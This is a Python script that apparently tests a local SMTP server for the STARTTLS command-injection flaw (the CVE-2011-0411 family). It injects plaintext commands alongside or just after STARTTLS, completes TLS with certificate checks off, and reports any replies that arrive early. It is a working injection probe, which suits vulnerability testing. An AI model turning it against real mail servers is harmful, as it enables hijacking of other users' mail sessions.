#!/usr/bin/env python3
# starttls_injection.py: sends commands in the same packet as STARTTLS (or right behind its 220), completes the TLS handshake, and reports what the server answered after it.
# Untrusted input: the server's replies (printed, never executed).
# Usage: starttls_injection.py PORT [INJECTED [with|after [RCPT]]]
#   INJECTED  the plaintext to inject, with \r \n escapes (default: one MAIL FROM)
#   with      in the same write as STARTTLS (default); after: in a write of its own once
#             the 220 is read, before the ClientHello (a man in the middle's timing)
#   RCPT      after the handshake, a whole transaction to this recipient (RCPT-TLS,
#             DATA-TLS, DOT-TLS lines)
# Prints one line per step; exit 0 when every step ran (a failed handshake prints
# "HANDSHAKE failed ..." and ends there with exit 0: the injection got nowhere).
# The CVE-2011-0411 family: a server that keeps plaintext read before the handshake would
# execute the injected commands and send their replies inside the TLS session.
import codecs
import socket
import ssl
import sys


def read_reply(f):
    lines = []
    while True:
        line = f.readline()
        if not line:
            break
        lines.append(line.decode(errors="replace").rstrip("\r\n"))
        if len(line) >= 4 and line[3:4] == b" ":
            break
    return lines


def last(reply):
    return reply[-1] if reply else "(closed)"


def main():
    port = int(sys.argv[1])
    injected = b"MAIL FROM:<injected@example.org>\r\n"
    if len(sys.argv) > 2:
        injected = codecs.decode(sys.argv[2], "unicode_escape").encode("latin-1")
    timing = sys.argv[3] if len(sys.argv) > 3 else "with"
    rcpt = sys.argv[4] if len(sys.argv) > 4 else ""
    raw = socket.create_connection(("127.0.0.1", port), timeout=10)
    f = raw.makefile("rb")
    print("GREETING", last(read_reply(f)))
    raw.sendall(b"EHLO client.example\r\n")
    print("EHLO", last(read_reply(f)))
    raw.sendall(b"STARTTLS\r\n" + (injected if timing == "with" else b""))
    # Read the 220 byte by byte: a buffered reader could swallow the TLS bytes that follow.
    line = b""
    while not line.endswith(b"\n"):
        b = raw.recv(1)
        if not b:
            break
        line += b
    print("STARTTLS", line.decode(errors="replace").rstrip("\r\n"))
    if timing == "after":
        raw.sendall(injected)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    try:
        tls = ctx.wrap_socket(raw, server_hostname="localhost")
    except (ssl.SSLError, OSError) as e:
        print("HANDSHAKE failed", type(e).__name__)
        return 0
    print("HANDSHAKE", tls.version())
    # Anything the server sends before we speak is an injected command's reply.
    tls.settimeout(1.0)
    try:
        early = tls.recv(4096)
        print("UNSOLICITED", early.decode(errors="replace").replace("\r\n", "|") if early else "none (closed)")
    except (socket.timeout, TimeoutError):
        print("UNSOLICITED none")
    tls.settimeout(10)
    tf = tls.makefile("rb")
    tls.sendall(b"EHLO client.example\r\n")
    print("EHLO-TLS", last(read_reply(tf)))
    # A MAIL already in progress would make this one 503 (nested MAIL).
    tls.sendall(b"MAIL FROM:<real@example.org>\r\n")
    print("MAIL-TLS", last(read_reply(tf)))
    if rcpt:
        tls.sendall(b"RCPT TO:<" + rcpt.encode() + b">\r\n")
        print("RCPT-TLS", last(read_reply(tf)))
        tls.sendall(b"DATA\r\n")
        print("DATA-TLS", last(read_reply(tf)))
        tls.sendall(b"Subject: after STARTTLS\r\n\r\nthe real message\r\n.\r\n")
        print("DOT-TLS", last(read_reply(tf)))
    tls.sendall(b"QUIT\r\n")
    print("QUIT", last(read_reply(tf)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
